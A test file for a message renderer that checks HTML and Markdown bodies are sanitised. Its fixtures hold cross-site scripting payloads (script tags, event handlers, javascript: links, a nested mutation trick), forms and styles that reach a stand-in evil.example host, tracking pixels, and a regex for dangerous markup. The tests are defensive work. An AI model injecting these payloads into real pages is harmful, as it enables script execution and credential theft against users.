import { expect, test } from 'vitest'
import { renderBody } from './render-body.ts'

/** What could run, load, send, or reach outside its own box. */
const dangerous =
  /<(?:script|style|iframe|object|embed|form|input|base|meta|link|svg|math|img|video)|\son\w+\s*=|(?:href|src|action)\s*=\s*["']?\s*(?!https?:|mailto:|tel:|#|["'\s>])|javascript:|data:|url\(|@import|\sid=|\sname=/i

const html: Record<string, string> = {
  'a script': '<script>steal()</script><p>Hola</p>',
  'a handler': '<p onclick="steal()" onmouseover=steal()>Hola</p><img src=x onerror=steal()>',
  'a script address':
    '<a href="javascript:steal()">Hola</a><a href="JaVa\tScRiPt:steal()">Hola</a>',
  'a data address': '<a href="data:text/html,<script>steal()</script>">Hola</a>',
  'a nested trick':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=steal()&gt;">Hola',
  'a base and a refresh':
    '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">Hola',
  'a form': '<form action="https://evil.example"><input name=password><button>Hola</button></form>',
  'styles that load':
    '<p style="background:url(https://evil.example/p.gif)">Hola</p><style>@import "https://evil.example"</style>',
  'a clobbered id': '<p id="contenido" name="body">Hola</p>',
  'a remote picture': '<p>Hola</p><img src="https://evil.example/pixel.gif" width=1>',
  'ten thousand tables': `${'<table><tr><td>'.repeat(10_000)}Hola`,
}

test.each(Object.entries(html))(
  'A39: %s in a message of HTML becomes harmless',
  async (_, body) => {
    const safe = await renderBody(body, 'html')
    expect(safe).toContain('Hola')
    expect(safe.replaceAll(/&lt;[^&]*&gt;|&lt;[\s\S]*/g, '')).not.toMatch(dangerous)
  },
)

const markdown: Record<string, string> = {
  'raw HTML': 'Hola <script>steal()</script> <b onclick=steal()>x</b>',
  'a script link': '[Hola](javascript:steal()) [otra](JAVASCRIPT:steal\\(\\))',
  'a script by reference': '[Hola][x]\n\n[x]: javascript:steal()',
  'an autolink trick': '<javascript:steal()> Hola https://ok.example/"onmouseover="steal()',
  'a remote picture': 'Hola ![x](https://evil.example/pixel.gif)',
  'a huge table': `Hola\n\n|${'a|'.repeat(500)}\n|${'-|'.repeat(500)}\n${`|${'b|'.repeat(500)}\n`.repeat(20)}`,
}

/** What an HTML answer does, apart from the words it shows. */
const tagsOf = (safe: string) => (safe.match(/<[^>]*>/g) ?? []).join('\n')

test.each(Object.entries(markdown))('A40: %s in Markdown stays inert text', async (_, body) => {
  const safe = await renderBody(body, 'markdown')
  expect(safe).toContain('Hola')
  expect(tagsOf(safe)).not.toMatch(dangerous)
})

/** Typed, and what a reader sees; the HTML between does not matter. */
const typed = [
  String.raw`C:\datos\*.txt y a_b_c 2*3*4`,
  String.raw`C:\PROGRA~1\MICROS~1 y \\servidor\_privado_\x`,
  'x <b>y</b> fin',
  'Pegado: <script>alert("no")</script> fin <!-- y esto -->',
  'Pulse <Ctrl:C> o <ventana>',
  '*.txt,*.doc y **/*.ts',
  'lista[i](x) ![](x) [1]: nota',
  '[1]: nota',
  'a\\*b\\* &amp; &copy; &lt;',
  'Hola\n====\nfin\\\ndos',
  '__init__.py y **sí**no',
]
const unescaped = (html: string) =>
  html
    .replaceAll(/<[^>]*>/g, '')
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&quot;', '"')
    .replaceAll('&amp;', '&')

test.each(typed)('what people type is shown as typed: %s', async (body) => {
  const safe = await renderBody(body, 'markdown')
  expect(unescaped(safe.replaceAll('<br />', '\n')).trim()).toBe(body)
})

test.each([
  ['**negrita** y (*cursiva*), _otra_.', '<strong>negrita</strong> y (<em>cursiva</em>), <em>otra'],
  ['una\ndos', '<p>una<br />dos</p>'],
  ['- una\n- dos', '<ul>\n<li>una</li>\n<li>dos</li>\n</ul>'],
  ['3. una', '<ol start="3">'],
  ['- [x] hecho', '<li>[x] hecho</li>'],
  ['`a <b> c\\*`', '<code>a &lt;b&gt; c\\*</code>'],
  ['```\n<b>\n```', '<pre><code>&lt;b&gt;\n</code></pre>'],
  ['[x](https://ok.example)', '<a href="https://ok.example"'],
  ['https://ok.example/a_b_c', '<a href="https://ok.example/a_b_c"'],
  ['![foto](https://ok.example/f.png)', '<a href="https://ok.example/f.png"'],
])('Markdown works where it is meant: %s', async (body, expected) => {
  expect(await renderBody(body, 'markdown')).toContain(expected)
})
